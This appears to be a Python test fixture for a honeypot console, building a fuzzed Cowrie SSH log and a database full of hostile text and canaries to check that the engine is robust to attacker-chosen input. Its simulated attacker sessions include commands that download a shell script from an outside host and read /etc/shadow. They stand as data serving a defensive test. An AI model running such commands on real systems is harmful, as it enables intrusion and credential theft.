"""A database and a bus full of hostile text: what the engine makes of a fuzzed Cowrie log, rows of every other kind,

and hostile text in every text and JSON column. With harmless dice the same without it. Canaries: 90,000 and
up in the log, 91,000 and up in commands, rules, dead letters and journal, 92,000 in a terminal recording.
"""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from decnet.db.repository import BaseRepository
from decnet.ids import attacker_id
from tests.fuzzkit import Dice, canary, obeyed, poison
from tests.integration.test_console_flows import IP, filled
from tests.integration.test_console_snapshots import applied, suspected
from tests.natskit import PASSWORD, USER, nats_server
from tests.programkit import run_until_idle
from tests.recording.ttylog import OUTPUT, WRITE, Record, write
from tests.rowkit import define_rule

SEED = 20_261_121


@dataclass(frozen=True)
class World:
    """A bus and a database for one console."""

    url: str
    folder: Path
    database: Path
    dice: Dice

    def options(self) -> list[str | Path]:
        """How a console attaches to it."""
        return ["--attach", self.url, "--config", self.folder / "settings.yaml", "--data-dir", self.folder / "console",
                "--db", f"sqlite:///{self.database}"]  # fmt: skip


def cowrie_log(path: Path, dice: Dice) -> None:
    """Sessions whose every field an attacker could choose is drawn."""
    lines: list[dict[str, Any]] = []
    for number in range(12):
        about = {
            "session": f"{number:012x}",
            "src_ip": f"198.51.100.{number % 5}",
            "sensor": "gen-00" if number % 4 else dice.text(),
            "message": dice.text(),
        }
        mark = canary(90_000 + number, dice)
        steps: list[dict[str, Any]] = [
            {"eventid": "cowrie.session.connect", "src_port": 4242, "dst_ip": "192.0.2.11", "dst_port": 2222, "protocol": "ssh"},
            {"eventid": "cowrie.client.version", "version": "SSH-2.0-" + dice.text()},
            {"eventid": "cowrie.client.kex", "hassh": dice.text(), "hasshAlgorithms": dice.text(), "kexAlgs": [dice.text(), dice.text()]},
            {"eventid": "cowrie.client.size", "width": dice.value(), "height": 24},
            {"eventid": "cowrie.login.failed", "username": dice.text(), "password": dice.text()},
            {"eventid": "cowrie.login.success", "username": mark + dice.text(), "password": dice.text()},
            {"eventid": "cowrie.command.input", "input": f"wget http://203.0.113.9/{mark}{dice.text()}.sh"},
            {"eventid": "cowrie.command.input", "input": f"cat /etc/shadow # {mark}{dice.text()}"},
            {"eventid": "cowrie.command.input", "input": dice.text() * 200},
            {"eventid": "cowrie.session.file_download", "url": "http://203.0.113.9/" + dice.text(), "shasum": dice.text(), "outfile": dice.text()},
            {"eventid": "cowrie.direct-tcpip.request", "dst_ip": dice.text(), "dst_port": 25, "src_ip": about["src_ip"], "src_port": 1},
            {"eventid": dice.text(), dice.text(): dice.value()},
            {"eventid": "cowrie.session.closed", "duration": "9.0"},
        ]  # fmt: skip
        lines += [
            {**about, **step, "timestamp": f"2026-03-04T05:{number:02d}:{second:02d}.000000Z"}
            for second, step in enumerate(steps)
        ]
    path.write_text("".join(json.dumps(line) + "\n" for line in lines), "utf-8")


async def fill(database: Path, folder: Path, dice: Dice) -> None:
    """Rows that a log does not make: an alert, deckies, a journal, dead letters, a recording, heartbeats, broken rules."""
    repo = await BaseRepository.open(f"sqlite:///{database}")
    now = time.time()
    try:
        await filled(repo, now)
        await suspected(repo)
        await applied(repo, folder)
        for number, session in enumerate(("s2", "s3")):
            await repo.upsert_session({
                "session_id": session, "attacker_uuid": attacker_id(IP), "attacker_ip": IP, "decky_id": "web-07", "service": "ssh",
                "started_at": now - 50, "ended_at": now - 20, "duration_s": 30.0, "command_count": 1, "part": 1, "parts": 1, "end_reason": "closed",
                "client": {"size": "80x24", "version": "SSH-2.0-" + dice.text()}, "auth": {"usernames": [dice.text()]}, "keystrokes_ref": f"k{number}",
            })  # fmt: skip
            await repo.upsert_recording(f"k{number}", session, recording(int(now) - 50, dice))
        for number in range(20):
            mark = canary(91_000 + number, dice)
            await repo.insert_commands(
                "s1", [{"id": f"h{number}", "command_text": f"{mark} {dice.text()}", "ts": now - 49 + number}]
            )
            await define_rule(
                repo,
                f"R9{number:03}",
                1,
                mark,
                f"emits:\n- {mark}\n",
                f"{mark}.yaml",
                mark if number % 3 == 0 else None,
            )
            await repo.dead_letter_add(
                "ttp", "attacker.observed", mark, 7 + number, dice.text().encode("utf-8", "replace")
            )
            entry = await repo.journal_add(operator="eve@console", kind="rule.state", target=f"R9{number:03}", what=mark,
                                           before={"state": "enabled"}, after={"state": "disabled"}, reason=mark)  # fmt: skip
            await repo.journal_end(entry, "verified", mark)
        await repo.ignore_add("scanner", reason="own", set_by="eve@console")
    finally:
        await repo.close()
    dice_for_rows = Dice(SEED + 1, hostile=dice.hostile)
    if dice.hostile:
        assert poison(database, dice_for_rows) > 500


def recording(start: int, dice: Dice) -> bytes:
    """Output of a terminal: everything that a terminal obeys, and a canary."""
    parts = [canary(92_000, dice), *(dice.text() for _ in range(60))]
    records = [
        Record(
            WRITE,
            OUTPUT,
            (start + i // 8) * 1_000_000,
            part.encode("utf-8", "replace") + bytes([0x80 + i % 32, 0xFF]) * dice.hostile,
        )
        for i, part in enumerate(parts)
    ]
    return write(records)


def build(folder: Path, *, hostile: bool) -> tuple[Path, Dice]:
    """A database filled by the engine from a log, and by hand."""
    folder.mkdir()
    dice = Dice(SEED, hostile=hostile)
    log, data = folder / "cowrie.json", folder / "data"
    cowrie_log(log, dice)
    (folder / "settings.yaml").write_text(f"bus: {{user: {USER}, password: {PASSWORD}}}\n", "utf-8")
    done = run_until_idle(log, data, timeout=120)
    said = done.stderr.decode()
    assert done.returncode == 0, said
    assert not obeyed(said.replace("\n", "")), "the engine's log"
    asyncio.run(fill(data / "decnet.sqlite", folder, dice))
    return folder, dice


@contextmanager
def world(folder: Path, dice: Dice) -> Iterator[World]:
    """The same with a server."""
    with nats_server(folder / "nats") as url:
        yield World(url, folder, folder / "data" / "decnet.sqlite", dice)
